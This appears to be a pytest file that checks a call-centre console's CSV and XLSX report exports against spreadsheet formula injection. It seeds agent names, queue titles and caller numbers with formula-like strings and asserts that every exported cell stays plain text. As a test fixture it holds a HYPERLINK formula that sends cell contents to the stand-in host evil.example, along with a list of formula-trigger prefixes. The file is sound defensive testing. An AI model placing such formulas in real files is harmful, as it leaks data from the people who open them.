"""Words that others chose are text in every file a spreadsheet opens: never a formula, in CSV nor XLSX [X4]."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace

import httpx
import pytest

from calls import events as e
from calls.model import AgentState, AgentStatus
from console.reports.cells import FORMULA, plain
from tests.unit.console.house import House
from tests.unit.console.shop import SHOP
from tests.unit.hotline import tables

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
CALLED = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "　＝1", "＋1", "－1", "＠SUM(1)"]


@pytest.fixture
def shop(house: House) -> House:
    """Agents, queues, numbers called and a flow with names that would calculate."""
    agents = {name: replace(agent, name=EVIL) for name, agent in SHOP.agents.items()}
    queues = {name: replace(queue, title={"zh-CN": EVIL, "en": EVIL}) for name, queue in SHOP.queues.items()}
    house.hear(e.TablePublished(replace(SHOP, agents=agents, queues=queues)))
    for agent in agents:
        house.hear(e.AgentStateChanged(agent, AgentStatus.AVAILABLE, AgentState.IDLE, True))
    for number, called in enumerate(CALLED):
        call = f"c{number}"
        house.hear(e.CallOffered(call, f"{call}-c", "carrier", EVIL, called, house.at, EVIL), 1)
        house.hear(e.CallQueued(call, "orders", SHOP_TIER, "zh-CN"), 1)
    house.served("talk", "1001", length_s=12)
    return house


SHOP_TIER = next(iter(SHOP.tiers))


def calculates(cell: str) -> bool:
    """Figures are none: -0.5 is a number wherever it stands."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" 　\u00a0").startswith(FORMULA)
    return False


@pytest.mark.parametrize("by", ["queue", "agent", "dialled", "flow", "tier"])
async def test_no_report_calculates(shop: House, api: httpx.AsyncClient, by: str) -> None:
    for language in ("zh-CN", "en"):
        text = (await api.get("/api/reports.csv", params={"by": by, "language": language})).text
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert len(rows) > 1
        assert [cell for row in rows for cell in row if calculates(cell)] == []
        assert (EVIL in text.replace('""', '"')) == (by in ("queue", "agent")), "or nothing was tried"
        book = (await api.get("/api/reports.xlsx", params={"by": by, "language": language})).content
        assert formulas(book) == []


async def test_no_table_of_quality_calculates(shop: House, api: httpx.AsyncClient) -> None:
    text = (await api.get("/api/quality/kpis.csv")).text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [cell for row in rows for cell in row if calculates(cell)] == []


async def test_no_routing_table_calculates(house: House, api: httpx.AsyncClient) -> None:
    evil = tables.TABLE.replace("订单", "'=1+1'")
    draft = await api.put("/api/tables/draft", json={"name": "d", "text": evil, "etag": None})
    assert draft.status_code == 200, draft.text
    text = (await api.get("/api/tables/export?form=csv&name=d")).text
    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]
    assert "'=1+1" in cells
    assert [cell for cell in cells if calculates(cell)] == []
    assert formulas((await api.get("/api/tables/export?form=xlsx&name=d")).content) == []


def formulas(book: bytes) -> list[str]:
    """Cells of a workbook that calculate, and addresses that would be opened."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        found = {name: parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels"))}
    sheets = [text for name, text in found.items() if "worksheets" in name]
    assert sheets
    return [
        hit for text in sheets for hit in re.findall(r"<f[ >][^<]*|<hyperlink[^>]*|TargetMode=\"External\"", text)
    ]


@pytest.mark.parametrize("text", CALLED)
def test_a_text_that_would_calculate_gets_an_apostrophe(text: str) -> None:
    assert plain(text) == f"'{text}"
    assert not calculates(plain(text))
